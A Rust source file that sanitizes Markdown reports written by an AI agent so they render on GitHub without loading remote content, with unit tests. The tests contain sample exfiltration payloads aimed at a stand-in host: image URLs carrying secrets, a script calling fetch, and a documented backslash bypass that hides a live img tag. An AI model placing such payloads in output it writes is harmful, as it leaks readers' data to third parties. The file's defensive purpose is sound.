//! Markdown that renders without contacting any host: the reports the agent writes are read
//! on GitHub, where a remote image or raw HTML would load by itself (a tracking pixel, a
//! request to an attacker's host carrying data in its URL).
//!
//! What is live is decided the way GitHub decides it, not the way some other parser would:
//! GitHub renders with cmark-gfm, whose extended autolinks (a bare `http://...`) run up to
//! the next blank or `<` and swallow backslashes and backticks on the way, so
//! `http://x/\<img src=...>` is a link followed by a live `<img>` there, while a CommonMark
//! parser reads an escaped `<`. [`neutralize`] therefore depends on a parser for one thing
//! only, where code spans and code blocks are, and takes that from `comrak`, which follows
//! cmark-gfm (extended autolinks included). Everywhere else it works on characters, whatever
//! any parser makes of them:
//! - every `<` that could open raw HTML (followed by `/`, `!`, `?`, or a tag name that
//!   ends in a blank, `/`, `>` or the end of the text) becomes `&lt;`, so no tag, comment,
//!   declaration or processing instruction is left, block or inline. A `<` that cannot open
//!   HTML is kept: `p99 < 100ms`, `x<5`, autolinks `<https://...>` and `<a@b.example>`;
//! - every `![` gets a backslash before its `[` (`!\[alt](url)`): no image can be left,
//!   inline, by reference or inside a link, and what was an image shows as its source text,
//!   alt text and URL, with nothing loaded (a bare URL in it is an ordinary link);
//! - fenced code blocks GitHub renders as maps or 3D models (`geojson`, `topojson`, `stl`),
//!   which fetch map tiles, get the info string `text`; their content is untouched.
//!
//! Entities are not touched: `&lt;img ...>` or `&#60;` is text, never a tag.
//!
//! Code is left byte for byte only where GitHub must read it as code too, whatever it makes
//! of the lines around it (comrak and GitHub's cmark-gfm differ on some block structures:
//! an empty task item `- [ ] ` that comrak keeps open for lazy lines, `<source ...>` that
//! starts an HTML block in GitHub's older rules): fenced code blocks whose fence starts its
//! line or follows only block quote markers, or is indented by 1 to 3 spaces with no line
//! of the block indented less and a closing fence indented by 3 at most (code in a list
//! item), up to the first other fence-like line (after which fences may pair
//! differently), and one-line code spans with no `$` in or beside
//! them (GitHub's math, `` $`...`$ ``), provided no stray backtick is left that could pair
//! with one. In other code (indented, in a nested list, over two lines) the rules apply too.
//!
//! Escaping can change where code spans are (a backtick that was inside an HTML attribute
//! now pairs with another), so the pass repeats until it changes nothing. The text is then
//! parsed once more and must hold no HTML and no image node; if it still does after a few
//! passes (it should not), the whole text is shown as a code block.

use std::ops::Range;

use comrak::nodes::NodeValue;
use comrak::{Arena, Options, parse_document};

/// How many passes [`neutralize`] makes before it falls back to a code block.
const MAX_PASSES: usize = 8;

/// Code block languages that GitHub renders with content loaded from elsewhere.
const LOADING_LANGUAGES: [&str; 3] = ["geojson", "topojson", "stl"];

/// `input` with every image, raw HTML and self-loading block made inert.
pub fn neutralize(input: &str) -> String {
    let mut current = input.to_owned();
    for _ in 0..MAX_PASSES {
        match pass(&current) {
            Pass::Inert => return current,
            Pass::Edited(next) => current = next,
            // Nothing left to escape, yet the parser still sees HTML or an image: the
            // character rules missed something, so nothing of the text is trusted.
            Pass::Live => break,
        }
    }
    as_code_block(&current)
}

/// Whether `input` renders without loading anything: [`neutralize`] would leave it as it is.
pub fn is_inert(input: &str) -> bool {
    matches!(pass(input), Pass::Inert)
}

/// The extensions GitHub enables when it renders a Markdown file.
fn options() -> Options<'static> {
    let mut options = Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options
}

/// What one pass found.
enum Pass {
    /// Nothing to change, and no HTML or image node in the parse.
    Inert,
    /// The text with this pass's edits.
    Edited(String),
    /// Nothing to change, yet the parse holds HTML or an image.
    Live,
}

/// One edit: replace `range` of the source by `with`.
struct Edit {
    range: Range<usize>,
    with: &'static str,
}

/// One neutralising pass.
fn pass(input: &str) -> Pass {
    if input.contains('\0') {
        // cmark-gfm and comrak read NUL as U+FFFD, which would shift every position after it.
        return Pass::Edited(input.replace('\0', "\u{FFFD}"));
    }
    let lines = LineStarts::new(input);
    let arena = Arena::new();
    let root = parse_document(&arena, input, &options());
    // Code spans and fenced blocks as comrak reads them, each block with whether its fence
    // starts its line (after block quote markers only).
    let mut spans: Vec<Range<usize>> = Vec::new();
    let mut blocks: Vec<(Range<usize>, bool)> = Vec::new();
    let mut edits: Vec<Edit> = Vec::new();
    let mut live = false;
    for node in root.descendants() {
        let data = node.data.borrow();
        let Some(range) = lines
            .range(data.sourcepos)
            .filter(|r| input.is_char_boundary(r.start) && input.is_char_boundary(r.end))
        else {
            continue;
        };
        match &data.value {
            NodeValue::Code(span) if is_whole_code_span(input, &range, span.num_backticks) => {
                spans.push(range);
            }
            NodeValue::CodeBlock(block) if block.fenced => {
                let fence_len = input[range.start..]
                    .bytes()
                    .take_while(|&b| b == block.fence_char)
                    .count();
                if fence_len != block.fence_length {
                    // Not where the block should start: its text stays under the rules.
                    continue;
                }
                let language = block.info.split_whitespace().next().unwrap_or_default();
                if LOADING_LANGUAGES
                    .iter()
                    .any(|l| l.eq_ignore_ascii_case(language))
                {
                    let info_start = range.start + fence_len;
                    let info_end = input[info_start..]
                        .find(['\n', '\r'])
                        .map_or(input.len(), |i| info_start + i);
                    edits.push(Edit {
                        range: info_start..info_end,
                        with: "text",
                    });
                }
                let line_start = lines.line_start(range.start);
                let starts_line = only_quote_markers(&input[line_start..range.start])
                    || (block.closed && holds_indented(&input[line_start..range.end]));
                blocks.push((range, starts_line));
            }
            NodeValue::HtmlBlock(_) | NodeValue::HtmlInline(_) | NodeValue::Image(_) => {
                live = true;
            }
            _ => {}
        }
    }
    let code = trusted_code(input, &lines, blocks, spans);
    escape_outside(input, &code, &mut edits);
    if edits.is_empty() {
        return if live { Pass::Live } else { Pass::Inert };
    }
    edits.sort_by_key(|e| e.range.start);
    let mut out = String::with_capacity(input.len() + edits.len() * 4);
    let mut last = 0;
    for edit in edits {
        if edit.range.start < last {
            // Cannot happen (edits outside code never meet an info string), but an
            // overlapping edit is left to the next pass rather than applied twice.
            continue;
        }
        out.push_str(&input[last..edit.range.start]);
        out.push_str(edit.with);
        last = edit.range.end;
    }
    out.push_str(&input[last..]);
    Pass::Edited(out)
}

/// Adds an edit for every `<` that could open HTML and every `![` of `input`
/// outside the sorted `code` ranges.
fn escape_outside(input: &str, code: &[Range<usize>], edits: &mut Vec<Edit>) {
    let bytes = input.as_bytes();
    let mut code = code.iter().peekable();
    let mut i = 0;
    while i < bytes.len() {
        while code.peek().is_some_and(|r| r.end <= i) {
            code.next();
        }
        if let Some(r) = code.peek().filter(|r| r.start <= i) {
            i = r.end;
            continue;
        }
        match bytes[i] {
            b'<' if opens_html(&bytes[i + 1..]) => edits.push(Edit {
                range: i..i + 1,
                with: "&lt;",
            }),
            // Even after a backslash: whether that backslash escapes the `!` depends on the
            // parser (in a bare URL it does not).
            b'!' if bytes.get(i + 1) == Some(&b'[') => edits.push(Edit {
                range: i + 1..i + 1,
                with: "\\",
            }),
            _ => {}
        }
        i += 1;
    }
}

/// Whether a `<` followed by `after` could start raw HTML in cmark-gfm: a closing tag,
/// comment, declaration, CDATA or processing instruction (`</`, `<!`, `<?`), or a tag name
/// followed by what may follow one in an open tag or an HTML block start (a blank, `/`,
/// `>`, the end of the line or text). Anything unusual after the name counts as HTML too:
/// only ASCII punctuation other than `/` and `>` (as in `<https:`, `<a@b`) is known not to.
fn opens_html(after: &[u8]) -> bool {
    match after.first() {
        Some(b'/' | b'!' | b'?') => true,
        Some(first) if first.is_ascii_alphabetic() => {
            let name_len = after
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
                .count();
            match after.get(name_len) {
                Some(&next) => !(next.is_ascii_punctuation() && next != b'/' && next != b'>'),
                None => true,
            }
        }
        _ => false,
    }
}

/// Whether `range` of `input` is a code span to be trusted: opened and closed by `ticks`
/// backticks as the parser reported, on one line (on two, GitHub's older block rules may
/// end the paragraph between them: `<source ...>` starts an HTML block there), and with no
/// `$` in it or beside it (GitHub's math may pair those backticks otherwise).
fn is_whole_code_span(input: &str, range: &Range<usize>, ticks: usize) -> bool {
    let Some(text) = input.get(range.clone()) else {
        return false;
    };
    let fence = "`".repeat(ticks);
    let before = input[..range.start].bytes().next_back();
    let after = input[range.end..].bytes().next();
    text.len() >= 2 * ticks
        && text.starts_with(&fence)
        && text.ends_with(&fence)
        && !text.contains(['$', '\n', '\r'])
        && before != Some(b'$')
        && after != Some(b'$')
}

/// The code that GitHub reads as code too, sorted: the fenced `blocks` whose fence starts its
/// line, up to the first fence-like line (three backticks or tildes) outside them, after
/// which GitHub may pair fences differently (it may close what comrak opens); and the
/// `spans`, if every backtick outside those blocks belongs to one of them: a stray backtick
/// on another line could pair with a span's opening where GitHub's paragraphs differ from
/// comrak's.
fn trusted_code(
    input: &str,
    lines: &LineStarts,
    mut blocks: Vec<(Range<usize>, bool)>,
    mut spans: Vec<Range<usize>>,
) -> Vec<Range<usize>> {
    blocks.sort_by_key(|(r, _)| r.start);
    let mut code: Vec<Range<usize>> = Vec::new();
    let mut checked_to = 0;
    for (range, starts_line) in blocks {
        let line = lines.line_start(range.start).max(checked_to);
        let before = &input[checked_to..line];
        if !starts_line || before.contains("```") || before.contains("~~~") {
            break;
        }
        checked_to = range.end;
        code.push(range);
    }
    spans.sort_by_key(|r| r.start);
    let mut outside = 0;
    let mut stray_backtick = false;
    let mut all: Vec<&Range<usize>> = code.iter().chain(&spans).collect();
    all.sort_by_key(|r| r.start);
    for r in all {
        stray_backtick |= input[outside.min(r.start)..r.start].contains('`');
        outside = outside.max(r.end);
    }
    stray_backtick |= input[outside..].contains('`');
    if !stray_backtick {
        code.extend(spans);
        code.sort_by_key(|r| r.start);
    }
    code
}

/// Whether `prefix`, the start of a fence's line, is nothing but block quote markers (`>`,
/// each with an optional space). Only such a fence opens a code block in every reading of
/// the lines before it: indented, or in a list item, it depends on whether that item (or
/// a paragraph it continues lazily) is still open, where GitHub and comrak differ (an empty
/// task item `- [ ] ` is closed for GitHub, open for comrak). Indented code blocks depend
/// on the paragraph before them the same way and are not trusted either.
fn only_quote_markers(prefix: &str) -> bool {
    let mut rest = prefix;
    while let Some(after) = rest.strip_prefix('>') {
        rest = after.strip_prefix(' ').unwrap_or(after);
    }
    rest.is_empty()
}

/// Whether `block`, a closed fenced code block from the start of its fence's line to the end
/// of its closing fence, is code however many list items GitHub sees around it: its fence
/// is indented by 1 to 3 spaces (a fence in any reading, never a lazy line), no line in it
/// is indented less (so no list item that holds the fence ends inside it), and its closing
/// fence by 3 spaces at most (so it closes in any reading). This keeps code in list items
/// (`1. step` then a fence indented by 3) as it is.
fn holds_indented(block: &str) -> bool {
    if block.contains('\t') || block.replace("\r\n", "\n").contains('\r') {
        return false;
    }
    let indent = |line: &str| line.len() - line.trim_start_matches(' ').len();
    let mut lines = block.split('\n');
    let Some(fence) = lines.next() else {
        return false;
    };
    let fence_indent = indent(fence);
    let Some(closing) = lines.next_back() else {
        return false;
    };
    (1..=3).contains(&fence_indent)
        && (fence_indent..=3).contains(&indent(closing))
        && lines.all(|l| l.trim().is_empty() || indent(l) >= fence_indent)
}

/// Byte offsets where each line starts, with the line endings cmark-gfm knows (`\n`,
/// `\r\n`, `\r`), to turn the parser's 1-based line and byte column into byte ranges.
struct LineStarts {
    starts: Vec<usize>,
    len: usize,
}

impl LineStarts {
    fn new(input: &str) -> Self {
        let bytes = input.as_bytes();
        let mut starts = vec![0];
        for (i, &b) in bytes.iter().enumerate() {
            if b == b'\n' || (b == b'\r' && bytes.get(i + 1) != Some(&b'\n')) {
                starts.push(i + 1);
            }
        }
        Self {
            starts,
            len: input.len(),
        }
    }

    /// The byte offset where the line holding byte `at` starts.
    fn line_start(&self, at: usize) -> usize {
        let line = self.starts.partition_point(|&start| start <= at);
        self.starts[line.saturating_sub(1)]
    }

    /// The byte range of `pos` (its end column is the last byte, inclusive), if it lies in
    /// the text.
    fn range(&self, pos: comrak::nodes::Sourcepos) -> Option<Range<usize>> {
        let start =
            self.starts.get(pos.start.line.checked_sub(1)?)? + pos.start.column.checked_sub(1)?;
        let end = self.starts.get(pos.end.line.checked_sub(1)?)? + pos.end.column;
        (start < end && end <= self.len).then_some(start..end)
    }
}

/// The whole text as a fenced code block, with a fence longer than any backtick run in it.
fn as_code_block(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}text\n{text}\n{fence}\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn assert_inert(input: &str) -> String {
        let out = neutralize(input);
        assert!(is_inert(&out), "still loads something:\n{out}");
        assert_eq!(neutralize(&out), out, "neutralising twice changed it");
        out
    }

    #[test]
    fn images_show_as_their_source_text() {
        assert_eq!(
            assert_inert("see ![graph](https://evil.example/p.png?d=secret) here"),
            "see !\\[graph](https://evil.example/p.png?d=secret) here"
        );
        assert_eq!(
            assert_inert("![](http://x/y.gif \"t\")"),
            "!\\[](http://x/y.gif \"t\")"
        );
        let reference = "![logo][l]\n\n[l]: https://evil.example/l.png\n";
        assert_eq!(
            assert_inert(reference),
            "!\\[logo][l]\n\n[l]: https://evil.example/l.png\n"
        );
        // An image inside a link, images in alt text, runs of `!` and escaped backslashes.
        assert_eq!(
            assert_inert("[![badge](https://x/b.svg)](https://x)"),
            "[!\\[badge](https://x/b.svg)](https://x)"
        );
        assert_inert("![a ![b](http://x/b.png)](http://x/a.png)");
        assert_eq!(
            assert_inert("!![x](u) \\![y](v) \\\\![z](w)"),
            "!!\\[x](u) \\!\\[y](v) \\\\!\\[z](w)"
        );
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        for html in [
            "<img src=\"https://evil.example/p.png\">",
            "<script>fetch('https://evil.example')</script>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<picture><source srcset=\"https://x/a.webp\"></picture>",
            "<video src=\"https://x/v.mp4\" autoplay></video>",
            "<svg><image href=\"https://x/i.png\"/></svg>",
            "<details><summary>x</summary>\n\n![i](https://x/i.png)\n\n</details>",
            "<!-- hidden -->",
            "<?php x ?>",
            "<![CDATA[ x ]]>",
            "<!DOCTYPE html>",
            "<div",
        ] {
            let out = assert_inert(html);
            assert!(out.starts_with("&lt;"), "{out}");
        }
        let out = assert_inert("text <a href=\"https://x\" onmouseover=\"alert(1)\">x</a> more");
        assert_eq!(
            out,
            "text &lt;a href=\"https://x\" onmouseover=\"alert(1)\">x&lt;/a> more"
        );
        // HTML that hid Markdown: its image is escaped as well.
        let out = assert_inert("<div>\n![x](https://evil.example/x.png)\n</div>\n");
        assert_eq!(
            out,
            "&lt;div>\n!\\[x](https://evil.example/x.png)\n&lt;/div>\n"
        );
    }

    #[test]
    fn a_bare_url_does_not_hide_a_tag_behind_a_backslash() {
        // cmark-gfm's extended autolink ends at `<` and keeps the backslash: GitHub rendered
        // a live `<img>` here (issue 24).
        let bypass = "http://ok.example/x\\<img src=\"https&#58;//evil/p.png?d=SECRET\">";
        assert_eq!(
            assert_inert(bypass),
            "http://ok.example/x\\&lt;img src=\"https&#58;//evil/p.png?d=SECRET\">"
        );
        // The autolink swallows backticks too: what looks like a code span is not one.
        assert_eq!(
            assert_inert("http://x/`<img src=y>`"),
            "http://x/`&lt;img src=y>`"
        );
    }

    #[test]
    fn a_less_than_sign_that_opens_nothing_is_kept() {
        for text in [
            "p99 < 100ms and x<5",
            "<https://docs.example.com/etcd> and <ops@example.com>",
            "a <= b, <-- arrow, <<EOF, <3",
            "[runbook](<https://docs.example.com/a b>)",
        ] {
            assert_eq!(neutralize(text), text);
        }
    }

    #[test]
    fn ordinary_markdown_is_untouched() {
        let doc = "# Findings\n\n## etcd\n\n- slow fsync (p99 **120ms**)\n- 3 _members_\n  1. nested\n\n| Pod | Status |\n|---|---|\n| etcd-0 | `CrashLoopBackOff` |\n\nSee [the runbook](https://docs.example.com/etcd) and <https://docs.example.com>.\n\n```yaml\nimage: <img src=x>\n```\n\nInline `<script>` and `![i](http://x/i.png)` stay.\n\n> quoted ~~old~~ text\n> ```\n> <b>\n> ```\n\n- [x] done\n";
        assert_eq!(neutralize(doc), doc);
        assert!(is_inert(doc));
    }

    #[test]
    fn code_whose_extent_depends_on_the_lines_before_is_not_trusted() {
        // For GitHub the empty task item is closed, the indented fence is paragraph text
        // and the image is live; comrak reads a code block in the item.
        assert_eq!(
            assert_inert("- [ ] \nx\n    ~~~![x](http://e/p.png)\n"),
            "- [ ] \nx\n    ~~~!\\[x](http://e/p.png)\n"
        );
        assert_eq!(
            assert_inert("End.\n\n    indented <img src=x>\n\n1. step\n   ```\n  <none>\n   ```\n"),
            "End.\n\n    indented &lt;img src=x>\n\n1. step\n   ```\n  &lt;none>\n   ```\n"
        );
        // A code span over two lines: GitHub's older rules start an HTML block at `<source`.
        assert_eq!(
            assert_inert("`x\n<source src=http://e/s>`"),
            "`x\n&lt;source src=http://e/s>`"
        );
    }

    #[test]
    fn code_after_a_fence_read_differently_is_not_trusted() {
        // GitHub closes the empty task item, so the indented fence opens a top-level block
        // that the next fence closes: what comrak reads as the next block's code is live.
        assert_eq!(
            assert_inert("- [ ] \nx\n  ```\n```\n<img src=y>\n```\n"),
            "- [ ] \nx\n  ```\n```\n&lt;img src=y>\n```\n"
        );
        // A stray backtick could pair with a code span's opening on another line.
        assert_eq!(
            assert_inert("- [ ] \nx `\n\n`<img src=y>`\n"),
            "- [ ] \nx `\n\n`&lt;img src=y>`\n"
        );
        // A fence in a list item whose lines all stay in the item, closed in any reading.
        let listed =
            "1. step\n   ```\n   <none>\n\n   ```\n- b\n  ~~~\n  <b>\n  ~~~\n\n```\n<b>\n```\n";
        assert_eq!(neutralize(listed), listed);
        // Found by the cross-check with GitHub's library.
        let out = assert_inert(
            "| `\n- [x] \n      ````\n`<none>````x\n    <source src=s>`<img src=y>`\n",
        );
        assert!(out.ends_with("`&lt;img src=y>`\n"), "{out}");
        assert_eq!(
            neutralize("`<b>` and\n\n```\n<b>\n```\n"),
            "`<b>` and\n\n```\n<b>\n```\n"
        );
    }

    #[test]
    fn code_beside_a_dollar_is_not_trusted() {
        assert_eq!(
            assert_inert("$`<img src=x>`$ and `$ <b>`"),
            "$`&lt;img src=x>`$ and `$ &lt;b>`"
        );
    }

    #[test]
    fn map_blocks_lose_their_renderer_but_keep_their_content() {
        let doc = "```geojson\n{\"type\": \"Point\", \"coordinates\": [1, 2]}\n```\n";
        assert_eq!(
            assert_inert(doc),
            "```text\n{\"type\": \"Point\", \"coordinates\": [1, 2]}\n```\n"
        );
        assert_eq!(
            assert_inert("> ~~~ STL x\n> solid\n> ~~~\n"),
            "> ~~~text\n> solid\n> ~~~\n"
        );
    }

    #[test]
    fn nul_reads_as_a_replacement_character() {
        assert_eq!(assert_inert("a\0<b>"), "a\u{FFFD}&lt;b>");
    }

    #[test]
    fn the_fallback_is_a_code_block() {
        let out = as_code_block("a ``` b <img src=x>");
        assert!(out.starts_with("````text\n"), "{out}");
        assert!(is_inert(&out));
    }
}
